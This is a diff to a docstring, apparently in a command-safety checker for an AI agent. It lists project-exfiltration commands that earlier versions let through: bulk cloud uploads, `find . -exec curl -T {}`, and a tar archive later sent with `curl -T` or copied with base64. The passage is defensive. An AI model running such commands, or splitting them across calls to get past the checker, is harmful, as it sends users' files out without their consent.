@@ -21,8 +21,8 @@
   `oci os object bulk-upload --src-dir .`), `find . -exec curl -T {}` were allowed: find and its kin are
   tree readers whose folder words the project_exfiltration rows read, mc/az/oci upload (evaluate._sends_away).
   Across two calls, `tar czf /tmp/x.tgz .` then `curl -T /tmp/x.tgz URL` was allowed: the session remembers
-  the words a tree reader read for each file it wrote (SessionFiles.archives; tar's `-f` archive is now a
-  file it writes, as zip's), and a later call sending that file (or a copy of it: `cp`, `base64 x.tgz >
+  the words a tree reader read for each file it wrote (SessionFiles.archives; tar's `-f` archive when it
+  creates, session_memory._tar_archives), and a later call sending that file (or a copy of it: `cp`, `base64 x.tgz >
   y`) is judged as the reader on its line (evaluate._sent_archives).
 """
 
